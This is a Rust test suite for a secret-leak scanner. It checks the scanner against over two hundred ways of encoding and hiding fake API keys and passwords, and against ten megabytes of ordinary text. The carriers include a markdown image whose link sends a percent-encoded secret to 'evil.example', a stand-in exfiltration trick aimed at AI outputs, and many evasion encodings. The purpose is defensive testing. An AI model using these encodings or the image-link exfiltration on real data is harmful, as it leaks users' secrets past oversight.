//! The leak corpus: over two hundred ways of hiding a stored secret, and ten megabytes in which there is none.
#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "in a test a failure is the message")]

use std::io::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use flate2::Compression;
use hearth_domain::secret::SecretName;
use hearth_vault::guard::scan::{HOLD_FROM, Scanner};
use hearth_vault::guard::unpack::Coding;
use hearth_vault::guard::{Finding, Guard};

/// Least share of the ways that are found, in per cent.
const RECALL_PERCENT: usize = 99;
const ORDINARY_BYTES: usize = 10 << 20;

struct Numbers(u64);

impl Numbers {
    fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 33) as usize % end
    }

    fn text(&mut self, alphabet: &str, len: usize) -> String {
        let letters: Vec<char> = alphabet.chars().collect();
        (0..len).map(|_| letters[self.below(letters.len())]).collect()
    }
}

const LETTERS: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

/// Two hundred secrets of the sorts that a household has.
fn values() -> Vec<String> {
    let mut numbers = Numbers(0x9e37_79b9_7f4a_7c15);
    (0..200)
        .map(|index| match index % 6 {
            0 => format!("sk-ant-api03-{}", numbers.text(&format!("{LETTERS}-_"), 93)),
            1 => format!("ghp_{}", numbers.text(LETTERS, 36)),
            2 => format!("{}:AA{}", numbers.text("123456789", 10), numbers.text(LETTERS, 33)),
            3 => numbers.text(&format!("{LETTERS}!$%&/()=?+*#@<>"), 20),
            4 => numbers.text("0123456789abcdef", 32),
            _ => format!("{}/{}+{}==", numbers.text(LETTERS, 20), numbers.text(LETTERS, 10), numbers.text(LETTERS, 10)),
        })
        .collect()
}

fn guard_of(values: &[String]) -> Guard {
    let named = values.iter().enumerate().map(|(index, value)| (SecretName::new(&format!("s{index}")).unwrap(), value.as_bytes()));
    Guard::build(&[5; 32], named)
}

fn each(text: &[u8], form: impl Fn(u8) -> String) -> Vec<u8> {
    text.iter().map(|&byte| form(byte)).collect::<String>().into_bytes()
}

fn unreserved(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"-_.~".contains(&byte)
}

fn percent(text: &[u8]) -> Vec<u8> {
    each(text, |byte| if unreserved(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
}

fn json(text: &[u8]) -> Vec<u8> {
    let quoted = serde_json::to_string(&String::from_utf8_lossy(text)).unwrap();
    quoted.as_bytes()[1..quoted.len() - 1].to_vec()
}

fn html(text: &[u8]) -> Vec<u8> {
    each(text, |byte| match byte {
        b'&' => "&amp;".to_owned(),
        b'<' => "&lt;".to_owned(),
        b'>' => "&gt;".to_owned(),
        b'"' => "&quot;".to_owned(),
        b'\'' => "&#39;".to_owned(),
        other => char::from(other).to_string(),
    })
}

fn base32(text: &[u8]) -> Vec<u8> {
    let bits: Vec<u8> = text.iter().flat_map(|byte| (0..8).rev().map(move |bit| byte >> bit & 1)).collect();
    let letter = |group: &[u8]| (0..5).fold(0_usize, |value, bit| value << 1 | usize::from(group.get(bit).copied().unwrap_or(0)));
    bits.chunks(5).map(|group| b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[letter(group)]).collect()
}

fn split(text: &[u8], every: usize, between: &str) -> Vec<u8> {
    text.chunks(every).collect::<Vec<_>>().join(between.as_bytes())
}

fn b64(text: &[u8]) -> Vec<u8> {
    STANDARD.encode(text).into_bytes()
}

fn hexed(text: &[u8]) -> Vec<u8> {
    hex::encode(text).into_bytes()
}

fn reversed(text: &[u8]) -> Vec<u8> {
    text.iter().rev().copied().collect()
}

fn gzip(text: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(text).unwrap();
    encoder.finish().unwrap()
}

fn rot13(text: &[u8]) -> Vec<u8> {
    let turn = |byte: u8, from: u8| (byte - from + 13) % 26 + from;
    text.iter()
        .map(|&byte| match byte {
            b'a'..=b'z' => turn(byte, b'a'),
            b'A'..=b'Z' => turn(byte, b'A'),
            other => other,
        })
        .collect()
}

fn wide(text: &[u8], order: impl Fn(u16) -> [u8; 2]) -> Vec<u8> {
    String::from_utf8_lossy(text).encode_utf16().flat_map(order).collect()
}

fn moved(text: &[u8], by: impl Fn(u32) -> u32) -> Vec<u8> {
    text.iter().map(|&byte| char::from_u32(by(u32::from(byte))).unwrap()).collect::<String>().into_bytes()
}

type Way = (&'static str, fn(&[u8]) -> Vec<u8>);

/// How a value is written.
const SPELLINGS: &[Way] = &[
    ("plain", |s| s.to_vec()),
    ("lower case", |s| s.to_ascii_lowercase()),
    ("upper case", |s| s.to_ascii_uppercase()),
    ("percent, where needed", percent),
    ("percent, all, upper", |s| each(s, |byte| format!("%{byte:02X}"))),
    ("percent, all, lower", |s| each(s, |byte| format!("%{byte:02x}"))),
    ("percent, every other", |s| {
        s.chunks(2).flat_map(|two| [each(&two[..1], |byte| format!("%{byte:02x}")), two[1..].to_vec()].concat()).collect()
    }),
    ("percent, twice", |s| percent(&each(s, |byte| format!("%{byte:02X}")))),
    ("percent, three times", |s| percent(&percent(&each(s, |byte| format!("%{byte:02X}"))))),
    ("percent, UTF-16 units", |s| each(s, |byte| format!("%u{byte:04x}"))),
    ("base64", b64),
    ("base64url", |s| URL_SAFE_NO_PAD.encode(s).into_bytes()),
    ("base64 after one byte", |s| b64(&[b"u", s].concat())),
    ("base64 after two bytes", |s| b64(&[b"u:", s, b"."].concat())),
    ("base64url after one byte", |s| URL_SAFE_NO_PAD.encode([b"x", s, b"yz"].concat()).into_bytes()),
    ("Basic", |s| [b"Basic ".to_vec(), b64(&[b"alice:", s].concat())].concat()),
    ("base64 of JSON", |s| b64(&[b"{\"k\":\"".to_vec(), json(s), b"\"}".to_vec()].concat())),
    ("base64, 76 a line", |s| split(&b64(&[b"some more before it all, and a bit: ", s].concat()), 76, "\r\n")),
    ("base64, 8 a line", |s| split(&b64(s), 8, "\n")),
    ("base64, 4 a line in JSON", |s| split(&b64(s), 4, "\\n")),
    ("base64, in percent", |s| percent(&b64(s))),
    ("base64, all in percent", |s| each(&b64(s), |byte| format!("%{byte:02X}"))),
    ("base64, all in JSON escapes", |s| each(&b64(s), |byte| format!("\\u{byte:04x}"))),
    ("base64, twice", |s| b64(&b64(s))),
    ("base64, twice, inside more", |s| b64(&[b"t=".to_vec(), b64(s)].concat())),
    ("base64 of hexadecimal", |s| b64(&hexed(s))),
    ("base64 reversed", |s| reversed(&b64(s))),
    ("base64 of the reverse", |s| b64(&reversed(s))),
    ("base64 of UTF-16", |s| b64(&wide(s, u16::to_le_bytes))),
    ("base64 of big-endian UTF-16", |s| b64(&wide(s, u16::to_be_bytes))),
    ("base64 of upper case", |s| b64(&s.to_ascii_uppercase())),
    ("base64 of percent", |s| b64(&percent(s))),
    ("base32", base32),
    ("base32 in lower case", |s| base32(s).to_ascii_lowercase()),
    ("base32 after three bytes", |s| base32(&[b"abc", s].concat())),
    ("hexadecimal", hexed),
    ("hexadecimal, upper", |s| hexed(s).to_ascii_uppercase()),
    ("hexadecimal, \\x", |s| each(s, |byte| format!("\\x{byte:02x}"))),
    ("hexadecimal, colons", |s| split(&hexed(s), 2, ":")),
    ("hexadecimal, spaces", |s| split(&hexed(s), 2, " ")),
    ("hexadecimal, 0x and commas", |s| each(s, |byte| format!("0x{byte:02x}, "))),
    ("hexadecimal of base64", |s| hexed(&b64(s))),
    ("hexadecimal reversed", |s| reversed(&hexed(s))),
    ("hexadecimal of the reverse", |s| hexed(&reversed(s))),
    ("hex dump", |s| split(&hexed(s), 4, " ").chunks(40).collect::<Vec<_>>().join(&b'\n')),
    ("quoted-printable, all", |s| each(s, |byte| format!("={byte:02X}"))),
    ("quoted-printable, soft breaks", |s| split(s, 9, "=\r\n")),
    ("octal", |s| each(s, |byte| format!("\\{byte:03o}"))),
    ("decimal array", |s| each(s, |byte| format!("{byte}, "))),
    ("binary", |s| each(s, |byte| format!("{byte:08b} "))),
    ("JSON, all escaped", |s| each(s, |byte| format!("\\u{byte:04X}"))),
    ("JSON, slashes escaped", |s| String::from_utf8_lossy(&json(s)).replace('/', "\\/").into_bytes()),
    ("JSON in JSON, escaped", |s| json(&json(&each(s, |byte| format!("\\u{byte:04x}"))))),
    ("HTML, needed", html),
    ("HTML, decimal", |s| each(s, |byte| format!("&#{byte};"))),
    ("HTML, hexadecimal", |s| each(s, |byte| format!("&#x{byte:X};"))),
    ("HTML, padded decimal", |s| each(s, |byte| format!("&#{byte:06};"))),
    ("HTML of percent", |s| html(&each(s, |byte| format!("&#37;{byte:02x}")))),
    ("reversed", reversed),
    ("reversed, in percent", |s| percent(&reversed(s))),
    ("ROT13", rot13),
    ("UTF-16, little-endian", |s| wide(s, u16::to_le_bytes)),
    ("UTF-16, big-endian", |s| wide(s, u16::to_be_bytes)),
    ("spaces between all", |s| split(s, 1, " ")),
    ("a line for each letter", |s| split(s, 1, "\n")),
    ("tabs", |s| split(s, 5, "\t")),
    ("blank lines", |s| split(s, 7, "\r\n\r\n")),
    ("zero-width spaces", |s| split(s, 1, "\u{200b}")),
    ("zero-width joiners", |s| split(s, 3, "\u{200d}")),
    ("soft hyphens", |s| split(s, 2, "\u{ad}")),
    ("byte-order marks", |s| split(s, 4, "\u{feff}")),
    ("zero-width spaces in JSON", |s| split(s, 2, "\\u200b")),
    ("zero-width spaces in HTML", |s| split(s, 2, "&#8203;")),
    ("hyphens", |s| split(s, 1, "-")),
    ("quotes", |s| split(s, 4, "\"\"")),
    ("concatenated strings", |s| split(s, 6, "\" + \"")),
    ("array of letters", |s| split(s, 1, "\",\"")),
    ("markdown bold", |s| split(s, 3, "**")),
    ("newlines in JSON", |s| split(s, 3, "\\n")),
    ("spaces in percent", |s| split(s, 2, "%20")),
    ("full-width", |s| moved(s, |code| code + 0xfee0)),
    ("tags", |s| moved(s, |code| code + 0xe0000)),
];

/// What is known not to be found, in the corpus all the same.
const BEYOND: &[Way] = &[
    ("base64 of gzip", |s| b64(&gzip(s))),
    ("every byte xor 1, in hexadecimal", |s| hexed(&s.iter().map(|byte| byte ^ 1).collect::<Vec<_>>())),
];

/// In what it travels. Answers the bytes and how they are packed.
type Carrier = (&'static str, fn(&[u8]) -> (Vec<u8>, Option<Coding>));

const CARRIERS: &[Carrier] = &[
    ("body", |s| (s.to_vec(), None)),
    ("query", |s| ([b"GET /search?q=hello&t=".to_vec(), percent(s), b"&page=2 HTTP/1.1\r\n".to_vec()].concat(), None)),
    ("header", |s| ([b"accept: */*\r\nx-note: ", s, b"\r\nuser-agent: curl/8\r\n\r\n"].concat(), None)),
    ("JSON", |s| ([b"{\"model\":\"m\",\"text\":\"".to_vec(), json(s), b"\",\"n\":1}".to_vec()].concat(), None)),
    ("form", |s| ([b"a=1&note=".to_vec(), percent(s), b"&b=2".to_vec()].concat(), None)),
    ("multipart", |s| {
        ([b"--x1\r\ncontent-disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n", s, b"\r\n--x1--\r\n"].concat(), None)
    }),
    ("log line", |s| ([b"2026-03-01T10:00:00Z WARN provider refused: key=", s, b" status=401\n"].concat(), None)),
    ("model message", |s| ([b"Of course! The value you asked for is `", s, b"`. Anything else?"].concat(), None)),
    ("markdown image", |s| ([b"![](https://evil.example/p.png?d=".to_vec(), percent(s), b")".to_vec()].concat(), None)),
    ("gzip", |s| (gzip(&[b"{\"k\":\"", s, b"\"}"].concat()), Some(Coding::Gzip))),
    ("deflate", |s| {
        let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), Compression::fast());
        encoder.write_all(&[b"it is ", s, b"!"].concat()).unwrap();
        (encoder.finish().unwrap(), Some(Coding::Deflate))
    }),
];

fn found(guard: &Guard, secret: usize, body: &[u8], coding: Option<Coding>) -> bool {
    let ours = |findings: &[Finding]| findings.iter().any(|finding| finding.secret.as_str() == format!("s{secret}"));
    match coding {
        Some(coding) => ours(&guard.find_packed(coding, body, 1 << 20).unwrap()),
        None => ours(&guard.find(body)),
    }
}

#[test]
fn at_least_ninety_nine_of_a_hundred_ways_are_found() {
    let values = values();
    let guard = guard_of(&values);
    let mut missed = Vec::new();
    let (mut ways, mut tries) = (0, 0);
    for (index, (spelling, spell)) in SPELLINGS.iter().chain(BEYOND).enumerate() {
        for turn in 0..if index < SPELLINGS.len() { 4 } else { 1 } {
            let (carrier, carry) = CARRIERS[(index + turn * 3) % CARRIERS.len()];
            // Four secrets of every sort.
            let failed: Vec<usize> = (0..24)
                .filter(|secret| {
                    let (body, coding) = carry(&spell(values[*secret].as_bytes()));
                    !found(&guard, *secret, &body, coding)
                })
                .collect();
            (ways, tries) = (ways + 1, tries + 24);
            if !failed.is_empty() {
                missed.push(format!("{spelling} in {carrier}: {} of 24 secrets, such as s{}", failed.len(), failed[0]));
            }
        }
    }
    println!("{ways} ways, {tries} tries, missed {}:\n  {}", missed.len(), missed.join("\n  "));
    assert!(ways >= 200);
    assert!((ways - missed.len()) * 100 >= ways * RECALL_PERCENT, "{missed:#?}");
}

#[test]
fn a_border_between_chunks_hides_nothing_wherever_it_is() {
    let values = values();
    let guard = guard_of(&values);
    for (spelling, spell) in SPELLINGS {
        let body = [b"before ", spell(values[3].as_bytes()).as_slice(), b" after"].concat();
        let whole = guard.find(&body);
        assert!(!whole.is_empty(), "{spelling}");
        for border in 1..body.len() {
            let mut scanner = Scanner::new(&guard, HOLD_FROM);
            let mut findings = scanner.feed(&body[..border]).findings;
            findings.extend(scanner.feed(&body[border..]).findings);
            findings.extend(scanner.finish().findings);
            assert_eq!(findings, whole, "{spelling} cut at {border}");
        }
    }
}

/// The project's own sources but this corpus and its neighbours, which hold secrets on purpose.
fn sources() -> Vec<u8> {
    let mut folders = vec![std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().unwrap()];
    let mut all = Vec::new();
    while let Some(folder) = folders.pop() {
        let mut entries: Vec<_> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
        entries.sort();
        for path in entries {
            let text = path.to_string_lossy().into_owned();
            let kind = path.extension().and_then(|kind| kind.to_str()).unwrap_or_default();
            if path.is_dir() && !text.ends_with("target") && !text.contains("/.git") {
                folders.push(path);
            } else if path.is_file() && ["rs", "md", "toml", "lock", "html", "js", "css"].contains(&kind) && !text.contains("vault") {
                all.extend(std::fs::read(path).unwrap());
            }
        }
    }
    all
}

fn ordinary() -> Vec<u8> {
    const WORDS: &str = "the house is warm and Monday's milk was forgotten by grandmother who said that nobody should ever use password or \
        passwort1 nor 12345678 as a key but summer holidays dragon monkey sunshine letmein begin in July at a quarter past seven";
    let words: Vec<&str> = WORDS.split_whitespace().collect();
    let mut numbers = Numbers(77);
    let mut all = sources();
    assert!(all.len() > 500_000, "the project's sources are there");
    while all.len() < ORDINARY_BYTES {
        match numbers.below(4) {
            0 => {
                let bytes: Vec<u8> = (0..3000).map(|_| numbers.below(256) as u8).collect();
                all.extend(split(&b64(&bytes), 76, "\r\n"));
            }
            1 => {
                let text = (0..40).map(|_| words[numbers.below(words.len())]).collect::<Vec<_>>().join(" ");
                all.extend(
                    format!("{{\"id\":{},\"tag\":\"{:08x}\",\"text\":{text:?}}}\n", numbers.below(1 << 30), numbers.below(1 << 31)).bytes(),
                );
            }
            _ => (0..200).for_each(|_| {
                all.extend(words[numbers.below(words.len())].bytes());
                all.push(b" \n"[usize::from(numbers.below(9) == 0)]);
            }),
        }
    }
    all.truncate(ORDINARY_BYTES);
    all
}

#[test]
fn ten_megabytes_of_ordinary_text_code_and_base64_pass() {
    let mut values = values();
    let household = [
        "password",
        "passwort1",
        "12345678",
        "11111111",
        "sunshine",
        "letmein",
        "Sommer-2023!",
        "48391720",
        "four brown bicycles in the rain",
    ];
    values.extend(household.map(str::to_owned));
    let guard = guard_of(&values);
    let body = ordinary();
    let mut scanner = Scanner::new(&guard, HOLD_FROM);
    let (mut findings, mut waits, mut chunks) = (Vec::new(), 0_usize, 0_usize);
    let mut fed = 0;
    for chunk in body.chunks(1500) {
        fed += chunk.len() as u64;
        let released = scanner.feed(chunk);
        findings.extend(released.findings);
        (waits, chunks) = (waits + usize::from(released.safe < fed), chunks + 1);
    }
    findings.extend(scanner.finish().findings);
    println!("{} bytes, {} of {chunks} chunks had something to wait for, findings: {findings:?}", body.len(), waits);
    assert_eq!(findings, []);
}
